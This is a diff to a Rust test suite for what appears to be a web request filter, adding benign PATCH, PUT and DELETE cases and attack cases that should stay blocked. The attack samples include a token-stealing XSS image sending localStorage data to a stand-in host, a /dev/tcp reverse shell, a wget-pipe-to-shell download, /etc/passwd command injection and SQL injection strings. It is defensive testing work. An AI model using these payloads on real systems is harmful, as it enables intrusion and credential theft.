@@ -2308,6 +2308,9 @@ fn confirmations_pass_inert_values_and_keep_attacks() {
     let svg = format!("data:image/svg+xml;base64,{}", b64(b"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"9\"><rect width=\"9\" fill=\"#71cfd4\"/></svg>", false));
     let benign: Vec<(&str, Req)> = vec![
         ("a search of words", q("union station select seats")),
+        ("a PATCH", Req { method: "PATCH".into(), ..json(r#"{"city":"Galway","show_age":true}"#) }),
+        ("a PUT", Req { method: "PUT".into(), ..json(r#"{"qty":2}"#) }),
+        ("a DELETE", Req::new("DELETE", "/api/v1/orders/123")),
         ("a shell by path in inline code", arg("body", "`kubectl exec -it web-7d9c -- bash` fails with 'executable file not found'. `-- /bin/sh` works. Is `kubectl debug` the only option?")),
         ("a command named in inline code next to a host", arg("body", "I added `127.0.0.1 api.local` to my hosts file. `ping api.local` resolves correctly but Chrome still goes to the old IP.")),
         ("a Markdown table of shell operators", json(r#"{"body":"| Operator | Meaning |\n|---|:---:|\n| `&&` | run next if previous succeeded |\n| `\\|\\|` | run next if previous failed |\n| `;` | run next regardless |\n\n```sh\nmake && make install || echo \"build failed\"\n```"}"#)),
@@ -2391,6 +2394,8 @@ fn confirmations_pass_inert_values_and_keep_attacks() {
         ("a command in a fence with no prose", form(&[("body", "```\n;cat /etc/passwd\n```")])),
         ("a tautology in a table cell", json(r#"{"body":"| user | note |\n|---|---|\n| admin' or '1'='1 | x |"}"#)),
         ("a union after a quote in the prose before a fence", json(r#"{"body":"x' union select password from users where 'a\n```sql\nSELECT 1\n```"}"#)),
+        ("an image that sends the stored token away", q("<img src=x onerror=\"this.src='https://collect.example.net/p?d='+btoa(localStorage.getItem('token'))\">")),
+        ("a method CRS and this pack leave out", Req::new("PROPFIND", "/api/v1/orders/123")),
         ("a reverse shell in a fence", form(&[("body", "Look:\n\n```\nbash -i >& /dev/tcp/203.0.113.9/443 0>&1\n```\n\nAny idea?")])),
         ("a download run by a shell, in inline code", json(r#"{"text":"We saw `wget -qO- 198.51.100.23/k|sh` in the logs"}"#)),
         ("a secret read in a fence", form(&[("body", "Try this:\n\n```\n127.0.0.1; cat /etc/passwd\n```")])),
